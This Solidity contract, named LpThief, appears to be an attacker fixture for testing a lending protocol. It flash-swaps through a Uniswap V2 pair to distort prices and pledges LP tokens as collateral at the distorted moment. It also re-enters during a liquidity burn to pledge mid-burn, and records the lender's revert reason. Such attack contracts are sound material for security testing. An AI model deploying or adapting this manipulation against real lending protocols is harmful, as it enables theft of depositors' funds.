// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity ^0.8.17;

import '@uniswap/v2-core/contracts/interfaces/IERC20.sol';
import '@uniswap/v2-core/contracts/interfaces/IUniswapV2Pair.sol';

interface ILender {
    function borrow(uint256 what) external returns (uint256 loan);
}

interface IRouter {
    function swapExactTokensForTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external returns (uint256[] memory amounts);
}

/// @notice Pledges LP tokens at the moment when they look most valuable.
contract LpThief {
    ILender private immutable lender;
    IUniswapV2Pair private immutable pair;
    IRouter private immutable router;
    uint256 private pledging;
    /// @notice The lender's revert reason.
    string public answer;

    constructor(ILender _lender, IUniswapV2Pair _pair, IRouter _router) {
        lender = _lender;
        pair = _pair;
        router = _router;
    }

    /// @notice Sells borrowed `token` to the pair, pledges all LP tokens, and buys it back.
    function aroundSwap(IUniswapV2Pair bank, address token, uint256 amount) external {
        bool is0 = bank.token0() == token;
        bank.swap(is0 ? amount : 0, is0 ? 0 : amount, address(this), abi.encode(token));
    }

    function uniswapV2Call(address, uint256 amount0, uint256 amount1, bytes calldata data) external {
        uint256 amount = amount0 + amount1;
        address token = abi.decode(data, (address));
        address other = pair.token0() == token ? pair.token1() : pair.token0();
        uint256 bought = trade(token, other, amount);
        pledge(pair.balanceOf(address(this)));
        trade(other, token, bought);
        IERC20(token).transfer(msg.sender, (amount * 1000) / 997 + 1);
    }

    function trade(address from, address to, uint256 amount) private returns (uint256) {
        IERC20(from).approve(address(router), amount);
        address[] memory path = new address[](2);
        (path[0], path[1]) = (from, to);
        return router.swapExactTokensForTokens(amount, 0, path, address(this), 2 ** 40)[1];
    }

    /// @notice Burns most of its LP tokens, and pledges the rest while it is being paid.
    function insideBurn(uint256 burned) external {
        pledging = pair.balanceOf(address(this)) - burned;
        pair.transfer(address(pair), burned);
        pair.burn(address(this));
    }

    /// @notice Called by the token when a transfer arrives.
    function received() external {
        uint256 liquidity = pledging;
        pledging = 0;
        if (liquidity > 0) pledge(liquidity);
    }

    function pledge(uint256 liquidity) private {
        pair.approve(address(lender), liquidity);
        try lender.borrow(liquidity) {} catch Error(string memory reason) {
            answer = reason;
        }
    }
}
